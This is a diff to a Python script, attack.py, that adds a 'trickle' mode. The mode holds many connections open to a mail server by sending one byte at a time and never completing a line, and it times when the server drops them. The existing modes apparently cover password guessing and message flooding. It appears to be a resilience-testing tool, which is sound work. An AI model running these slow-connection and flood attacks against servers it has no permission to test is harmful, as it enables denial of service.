@@ -8,6 +8,10 @@
       N sessions at once to an MX without TLS, each sending FILE as its message;
       each session sends all its data before reading the end-of-data reply.
       Prints the final reply code of each session.
+  attack.py trickle HOST PORT N SECONDS
+      N connections that each send one byte of "NOOP" every 0.3 s, never a line
+      end, for at most SECONDS; prints, per connection, after how many seconds
+      the server closed it (null: still open) and what it said.
 """
 import asyncio
 import json
@@ -78,6 +82,38 @@ async def flood(host, port, sender, rcpt, path, n):
     print(json.dumps(results))
 
 
+def trickle(host, port, n, seconds):
+    import socket, time
+    conns = []
+    for _ in range(n):
+        s = socket.create_connection((host, port))
+        s.settimeout(0.05)
+        conns.append({"sock": s, "closed": None, "said": b""})
+    start = time.time()
+    i = 0
+    while time.time() - start < seconds and any(c["closed"] is None for c in conns):
+        for c in conns:
+            if c["closed"] is not None:
+                continue
+            try:
+                c["sock"].sendall(b"NOOP"[i % 4:i % 4 + 1])
+            except OSError:
+                c["closed"] = time.time() - start
+                continue
+            try:
+                data = c["sock"].recv(4096)
+                if data == b"":
+                    c["closed"] = time.time() - start
+                c["said"] += data
+            except socket.timeout:
+                pass
+            except OSError:
+                c["closed"] = time.time() - start
+        i += 1
+        time.sleep(0.3)
+    print(json.dumps([{"closed": c["closed"], "said": c["said"].decode(errors="replace")} for c in conns]))
+
+
 def main():
     if sys.argv[1] == "guess":
         _, _, host, port, user, wrong, right, n = sys.argv
@@ -85,6 +121,9 @@ def main():
     elif sys.argv[1] == "flood":
         _, _, host, port, sender, rcpt, path, n = sys.argv
         asyncio.run(flood(host, int(port), sender, rcpt, path, int(n)))
+    elif sys.argv[1] == "trickle":
+        _, _, host, port, n, seconds = sys.argv
+        trickle(host, int(port), int(n), float(seconds))
 
 
 if __name__ == "__main__":
